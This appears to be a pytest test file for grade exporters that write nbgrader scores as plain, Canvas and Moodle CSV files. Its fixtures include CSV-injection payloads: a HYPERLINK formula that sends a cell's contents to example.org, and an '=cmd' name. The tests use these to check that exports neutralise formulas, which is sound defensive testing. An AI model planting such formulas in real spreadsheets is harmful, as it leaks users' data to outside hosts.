"""Grades go out complete, safe and quickly, in the forms that a spreadsheet, Canvas and Moodle read."""

import contextlib
import csv
import io
import os
import re
import shutil
import sys
import time
from datetime import datetime
from pathlib import Path

import course
import pytest
from hypothesis import given
from hypothesis import strategies as st
from nbgrader import api
from nbgrader.api import Gradebook
from nbgrader.apps import ExportApp
from nbgrader.plugins import CsvExportPlugin

from grading import collect, exports
from grading.exports import CanvasCsv, Csv, MoodleCsv, original, safe

EVIL = '=HYPERLINK("http://example.org/?"&A1;"x")'
ADA, ZOE, TWO, NONE = "ada", "zoe", "-2+3", "+nobody"


@pytest.fixture(scope="module", autouse=True)
def alembic():
    """nbgrader runs alembic as a command to make a gradebook; without `make` it is not found."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PATH", str(Path(sys.executable).parent), prepend=os.pathsep)
        yield


@pytest.fixture(scope="module")
def gradebook(tmp_path_factory):
    """Two assignments; Ada's is late, Zoë's waits to be read, somebody has an id and a name like a formula."""
    path = tmp_path_factory.mktemp("grades") / "gradebook.db"
    with Gradebook(f"sqlite:///{path}", "course") as gradebook:
        gradebook.path = path
        gradebook.add_student(ADA, first_name="Ada", last_name="Lovelace", email="ada@example.org", lms_user_id="101")
        gradebook.add_student(ZOE, first_name="Zoë", last_name="O'Brien;=x", email="z@example.org", lms_user_id="102")
        gradebook.add_student(TWO, first_name="@two", last_name=EVIL, email="\tmail", lms_user_id="103")
        gradebook.add_student(NONE)
        for name in ("02-softmax", "06-mlp"):
            gradebook.add_assignment(name, duedate=datetime(2026, 11, 20, 12))
            gradebook.add_notebook("notebook", name)
            for cell in ("a", "b"):
                gradebook.add_grade_cell(cell, "notebook", name, max_score=4, cell_type="code")
        for student, scores, waits in ((ADA, (4, 3.5), False), (ZOE, (4, 0), True), (TWO, (1, -3), False)):
            work = gradebook.add_submission("02-softmax", student)
            work.timestamp = datetime(2026, 11, 21)
            for grade, score in zip(work.notebooks[0].grades, scores, strict=True):
                grade.auto_score, grade.needs_manual_grade = score, waits
            autograde(path.parent, student, "02-softmax")
        gradebook.find_submission_notebook("notebook", "02-softmax", ADA).late_submission_penalty = 2.0
        gradebook.db.commit()
        yield gradebook


def autograde(folder, student, assignment):
    """Leave what a finished run of the autograder leaves."""
    path = folder / "autograded" / student / assignment / "notebook.ipynb"
    path.parent.mkdir(parents=True)
    path.write_text('{\n "cells": [],\n "metadata": {\n  "digits_graded": true\n }\n}\n')


def export(exporter, gradebook, path, **options):
    with contextlib.chdir(gradebook.path.parent):
        exporter(to=str(path), **options).export(gradebook)
    with open(path, newline="", encoding="utf-8-sig") as file:
        return list(csv.reader(file))


def dicts(rows):
    head, *rows = rows
    return [dict(zip(head, row, strict=True)) for row in rows]


def test_every_student_has_a_row_and_a_status(gradebook, tmp_path):
    rows = dicts(export(Csv, gradebook, tmp_path / "grades.csv"))
    assert len(rows) == 8
    softmax = {original(row["student_id"]): row for row in rows if row["assignment"] == "02-softmax"}
    found = {student: (float(row["score"]), row["status"]) for student, row in softmax.items()}
    assert found == {
        ADA: (5.5, "graded"),
        ZOE: (4.0, "waits to be read"),
        TWO: (0.0, "graded"),
        NONE: (0.0, "nothing handed in"),
    }
    assert {row["max_score"] for row in rows} == {"8.0"}
    assert softmax[ADA]["raw_score"] == "7.5" and softmax[ADA]["late_submission_penalty"] == "2.0"
    assert softmax[ADA]["timestamp"] == "2026-11-21 00:00:00" and softmax[NONE]["timestamp"] == ""


def test_file_has_the_columns_and_numbers_of_nbgraders_own(gradebook, tmp_path):
    CsvExportPlugin(to=str(tmp_path / "theirs.csv"), student=[ADA]).export(gradebook)
    with open(tmp_path / "theirs.csv", newline="") as file:
        theirs = list(csv.DictReader(file))
    ours = dicts(export(Csv, gradebook, tmp_path / "ours.csv", student=[ADA]))
    assert [row.pop("status") for row in ours] == ["graded", "nothing handed in"]
    assert ours == theirs


def test_choice_of_assignments_and_students(gradebook, tmp_path):
    rows = dicts(export(Csv, gradebook, tmp_path / "grades.csv", assignment=["06-mlp"], student=[ADA, ZOE]))
    assert [(row["assignment"], row["student_id"]) for row in rows] == [("06-mlp", ADA), ("06-mlp", ZOE)]


def formulas(text, separator):
    """Cells that a spreadsheet would calculate, were it to split at the separator."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
    return [
        cell for cell in cells
        if re.match(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r]", cell) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)
    ]  # fmt: skip


@pytest.mark.parametrize("exporter", [Csv, CanvasCsv, MoodleCsv])
def test_no_cell_is_a_formula_and_negative_points_stay_numbers(gradebook, tmp_path, exporter):
    path = tmp_path / "grades.csv"
    rows = export(exporter, gradebook, path)
    text = path.read_text(encoding="utf-8")
    assert not formulas(text, ",") and not formulas(text, ";")
    assert any(EVIL in original(cell) for row in rows for cell in row)
    if exporter is Csv:
        (row,) = [row for row in dicts(rows) if original(row["student_id"]) == TWO and row["status"] == "graded"]
        assert row["raw_score"] == "-2.0"


@given(st.text(st.sampled_from("=+-@'\t\r\n; a1＝"), max_size=8))
def test_safe_text_is_no_formula_and_can_be_read_back(text):
    assert original(safe(text)) == text
    for cell in re.split(r"[;\t\r\n]", safe(text)):
        assert not re.match(r"\s*[=+\-@＝]", cell)


def as_canvas_reads(rows):
    """What Canvas's importer makes of a file: titles with their numbers, and a dict from ID to scores.

    Written after lib/gradebook_importer.rb: the first row must have Student, ID and, last before the assignments,
    Section; a row with "Points Possible" is about the assignments.
    """
    head, *rows = rows
    assert "Student" in head[0] and "ID" in head[1] and len(head) > 3
    columns = 3
    if re.search(r"SIS\s+Login\s+ID", head[2]):
        columns = 4
    elif re.search(r"SIS\s+User\s+ID", head[2]) and re.search(r"SIS\s+Login\s+ID", head[3]):
        columns = 5
    assert "Section" in head[columns - 1]
    titles = [title for title in head[columns:] if not re.search("Current Score|Final Score", title)]
    places = {title: head.index(title) for title in titles}
    possible, students = {}, {}
    for row in rows:
        scores = {title: row[place].strip() for title, place in places.items()}
        if "Points Possible" in row[0]:
            possible = scores
        elif not all(re.fullmatch(r"\s*(Muted|Manual Posting.*)?\s*", cell) for cell in row if cell):
            students[row[1]] = scores
    return possible, students


CANVAS = '''\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Softmax (4711),Essay (4712),Final Score
,,,,,Manual Posting,,
    Points Possible,,,,,8.00,10.00,(read only)
"Lovelace, Ada",101,S1,al,Group 1,,9.50,95.00
"O'Brien, Zoë",102,S2,zo,"Group 1, Group 2",1.00,-,
"=""=cmd""",103,S3,-2+3,Group 1,N/A,,
"Hopper, Grace",999,S4,gh,Group 1,3.00,7.00,70.00
"Student, Test",1000,,0af,Group 1,,,
'''


def test_canvas_export_comes_back_with_scores_and_nothing_else_changed(gradebook, tmp_path):
    (tmp_path / "canvas.csv").write_text(CANVAS, encoding="utf-8")
    options = {"template": str(tmp_path / "canvas.csv"), "titles": {"02-softmax": "Softmax"}}
    rows = export(CanvasCsv, gradebook, tmp_path / "new.csv", **options)
    before = list(csv.reader(io.StringIO(CANVAS.removeprefix("\ufeff"), newline="")))
    changed = {
        (old[1], title): cell
        for old, new in zip(before, rows, strict=True)
        for title, was, cell in zip(before[0], old, new, strict=True)
        if cell != was
    }
    assert changed == {
        ("101", "Softmax (4711)"): "5.50",
        ("103", "Student"): '\'="=cmd"',
        ("103", "SIS Login ID"): "'-2+3",
    }
    assert (tmp_path / "new.csv").read_text(encoding="utf-8").startswith("\ufeff")
    possible, students = as_canvas_reads(rows)
    assert possible["Softmax (4711)"] == "8.00" and students["101"]["Softmax (4711)"] == "5.50"
    # What waits to be read is not published, unless asked for; who is excused or not assigned stays so.
    rows = export(CanvasCsv, gradebook, tmp_path / "new.csv", **options, unread=True)
    assert as_canvas_reads(rows)[1]["102"]["Softmax (4711)"] == "4.00"
    assert as_canvas_reads(rows)[1]["103"]["Softmax (4711)"] == "N/A"


def test_canvas_file_separated_by_semicolons(gradebook, tmp_path):
    (tmp_path / "canvas.csv").write_text("Student;ID;SIS Login ID;Section;02-softmax (1)\nX;;ada;A;\n")
    export(CanvasCsv, gradebook, tmp_path / "new.csv", template=str(tmp_path / "canvas.csv"))
    assert (tmp_path / "new.csv").read_text() == "Student;ID;SIS Login ID;Section;02-softmax (1)\nX;;ada;A;5.50\n"


def test_canvas_file_without_a_template(gradebook, tmp_path):
    rows = export(CanvasCsv, gradebook, tmp_path / "canvas.csv", titles={"02-softmax": "Softmax (4711)"})
    possible, students = as_canvas_reads(rows)
    assert possible == {"Softmax (4711)": "8.00", "06-mlp": "8.00"}
    assert students["101"] == {"Softmax (4711)": "5.50", "06-mlp": ""}
    assert len(rows) == 2 + 4


@pytest.mark.parametrize("text", ["a,b\n1,2\n", "Student,ID,SIS Login ID,Section,Other (1)\n", None])
def test_a_file_that_is_not_canvas_own_is_refused_in_words(gradebook, tmp_path, text):
    if text:
        (tmp_path / "canvas.csv").write_text(text)
    with pytest.raises(SystemExit, match="Nothing is exported: .*canvas.csv"):
        export(CanvasCsv, gradebook, tmp_path / "new.csv", template=str(tmp_path / "canvas.csv"))
    assert not (tmp_path / "new.csv").exists()


def test_moodle_file_identifies_students_by_address_or_number(gradebook, tmp_path):
    rows = dicts(export(MoodleCsv, gradebook, tmp_path / "moodle.csv", titles={"02-softmax": "Softmax"}))
    assert list(rows[0]) == ["First name", "Last name", "ID number", "Email address", "Softmax", "06-mlp"]
    assert {row["Email address"]: row["Softmax"] for row in rows} == {
        "ada@example.org": "5.50",
        "z@example.org": "",
        "'\tmail": "0.00",
        "": "",
    }


def test_nbgrader_export_takes_ours_from_the_configuration(gradebook, tmp_path, caplog):
    """Plain `nbgrader export` is safe, and the others are had by name, with their options on the command line."""
    for name in ("jupyter_config.py", "nbgrader_config.py"):
        (tmp_path / name).write_bytes((course.ROOT / name).read_bytes())
    (tmp_path / "gradebook.db").write_bytes(gradebook.path.read_bytes())
    shutil.copytree(gradebook.path.parent / "autograded", tmp_path / "autograded")
    (tmp_path / "from-canvas.csv").write_text(CANVAS, encoding="utf-8")
    nbgrader_export(tmp_path)
    assert "status" in (tmp_path / "grades.csv").read_text(encoding="utf-8").partition("\n")[0]
    nbgrader_export(
        tmp_path,
        "--exporter=grading.exports.CanvasCsv",
        "--to=new.csv",
        "--CanvasCsv.template=from-canvas.csv",
        "--CanvasCsv.titles=02-softmax=Softmax",
    )
    assert "5.50" in (tmp_path / "new.csv").read_text(encoding="utf-8")
    assert "scores left out, since their status is 'waits to be read': 1" in caplog.text


def nbgrader_export(folder, *options):
    """``nbgrader export`` in a folder, within this process."""
    ExportApp.clear_instance()
    with contextlib.chdir(folder):
        app = ExportApp()
        app.initialize(list(options))
        app.log.propagate = True
        app.start()


def test_page_for_instructors_names_settings_that_exist():
    page = (course.ROOT / "docs" / "classes.md").read_text(encoding="utf-8")
    settings = set(re.findall(r"\b(CanvasCsv|MoodleCsv|LmsCollector|LmsExtractor)\.(\w+)", page))
    assert len(settings) >= 6
    for name, setting in settings:
        module = exports if hasattr(exports, name) else collect
        assert setting in getattr(module, name).class_trait_names(config=True), f"{name}.{setting}"


def test_a_thousand_students_are_exported_within_a_second(tmp_path):
    students, assignments, cells = 1000, 1, 8
    with Gradebook(f"sqlite:///{tmp_path}/gradebook.db", "course") as gradebook:
        gradebook.path = tmp_path / "gradebook.db"
        for number in range(assignments):
            gradebook.add_assignment(f"0{number}")
            gradebook.add_notebook("notebook", f"0{number}")
            for cell in range(cells):
                gradebook.add_grade_cell(f"cell-{cell}", "notebook", f"0{number}", max_score=2, cell_type="code")
        notebooks = [(one.assignment.id, one.id, [cell.id for cell in one.grade_cells])
                     for one in gradebook.db.query(api.Notebook)]  # fmt: skip
        names = {one.id: one.name for one in gradebook.assignments}
        tables = {table: [] for table in (api.Student, api.SubmittedAssignment, api.SubmittedNotebook, api.Grade)}
        for number in range(students):
            tables[api.Student].append({"id": f"s{number}"})
            for assignment, notebook, cells_of in notebooks:
                id = f"{number}-{assignment}"[:32]
                tables[api.SubmittedAssignment].append(
                    {"id": id, "assignment_id": assignment, "student_id": f"s{number}"}
                )
                tables[api.SubmittedNotebook].append({"id": id, "assignment_id": id, "notebook_id": notebook})
                for cell in cells_of:
                    tables[api.Grade].append(
                        {"id": f"{number}{cell}"[:32], "notebook_id": id, "cell_id": cell, "auto_score": 1.0,
                         "needs_manual_grade": False}
                    )  # fmt: skip
                autograde(tmp_path, f"s{number}", names[assignment])
        for table, rows in tables.items():
            gradebook.db.execute(table.__table__.insert(), rows)
        gradebook.db.commit()

        for exporter in (Csv, CanvasCsv, MoodleCsv):
            begin = time.process_time()
            rows = export(exporter, gradebook, tmp_path / "out.csv")
            taken = time.process_time() - begin
            assert taken < 1
            assert len(rows) >= students + 1
        scores = {row["score"] for row in dicts(export(Csv, gradebook, tmp_path / "out.csv"))}
        assert scores == {"8.0"}
